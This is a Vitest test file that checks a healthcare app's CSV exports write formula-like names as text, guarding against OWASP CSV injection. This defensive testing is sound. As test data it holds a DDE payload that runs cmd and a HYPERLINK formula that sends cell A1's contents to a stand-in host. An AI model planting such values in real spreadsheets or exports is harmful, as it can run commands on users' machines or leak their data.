/**
 * Every CSV the app writes opens safely in a spreadsheet: text people typed (a user's name, a unit,
 * a region) that starts like a formula is written as text (OWASP CSV injection).
 */
import { describe, expect, it } from 'vitest';
import { createApiClient } from '../../src/shared/api/client';
import { followUpTables } from '../../src/shared/domain/follow-up-tables';
import { toExcelCsv } from '../../src/shared/domain/report-table';
import { translate } from '../../src/shared/i18n';
import { TEST_PASSPHRASE, testCore } from './helpers';
import { insertMeeting, insertPatient, insertReferral } from '../factories';
import { arrangeKnownDataset } from '../follow-up-fixtures';

const CALC = "=cmd|' /C calc'!A0";
const LINK = '+HYPERLINK("https://example.invalid/?"&A1;"Klicka")';

/** The cells of a semicolon CSV with quoted fields (enough for what the app writes). */
function cells(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const text = csv.replace(/^\ufeff/, '');
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ';') endCell();
    else if (c === '\r' && text[i + 1] === '\n') {
      endCell();
      rows.push(row);
      row = [];
      i++;
    } else cell += c;
  }
  return rows;
}

const FORMULA = /^[=+\-@\t\r]/;

describe('CSV exports neutralise formulas', () => {
  it("the patient's access-log extract writes a user's and a unit's formula-like names as text", async () => {
    const { core, api } = await testCore();
    const region = (await api.call('reference.get', {})).units[0];
    const unit = await api.call('reference.saveUnit', { name: LINK, regionCode: region.regionCode, healthcareRegionCode: region.healthcareRegionCode });
    await api.call('users.save', { name: CALC, userName: 'kalk', role: 'coordinator', unitId: unit.id, active: true, passphrase: TEST_PASSPHRASE });
    const session = core.newSession();
    await core.security.login(session, 'kalk', TEST_PASSPHRASE);
    const patientId = insertPatient(core.db, { personnummer: '191212121212' });
    await createApiClient((m, i) => core.router(m, i, session)).call('referrals.get', { id: insertReferral(core.db, { patientId }) });

    const file = await api.call('accessLog.exportPatient', { patientIdentifier: '19121212-1212' });
    const table = cells(Buffer.from(file.base64, 'base64').toString('utf8'));
    const read = table.find((r) => r[2] === 'kalk')!;
    expect(read[1]).toBe(`'${CALC}`);
    expect(read[4]).toBe(`'${LINK}`);
    for (const r of table) for (const c of r) expect(c, c).not.toMatch(FORMULA);
  });

  it('the follow-up tables write a formula-like region name as text', async () => {
    const { core, api } = await testCore();
    arrangeKnownDataset(core.db, { insertPatient, insertReferral, insertMeeting });
    core.db.prepare('UPDATE region SET name = ? WHERE code = ?').run(CALC, '13');
    core.db.prepare('UPDATE healthcare_region SET name_sv = ? WHERE code = ?').run('@SUM(1+1)', 'SODRA');
    const dashboard = await api.call('followUp.dashboard', { careAreaCode: 'ANAL', from: '2025-01-01', to: '2025-03-31' });
    const t = (key: string, params?: Record<string, string | number>) => translate('sv', key, params);
    const written = followUpTables(dashboard, t).map((table) => cells(toExcelCsv(table)));
    const all = written.flat(2);
    expect(all).toContain(`'${CALC}`);
    expect(all).toContain("'@SUM(1+1)");
    for (const c of all) expect(c, c).not.toMatch(FORMULA);
  });
});
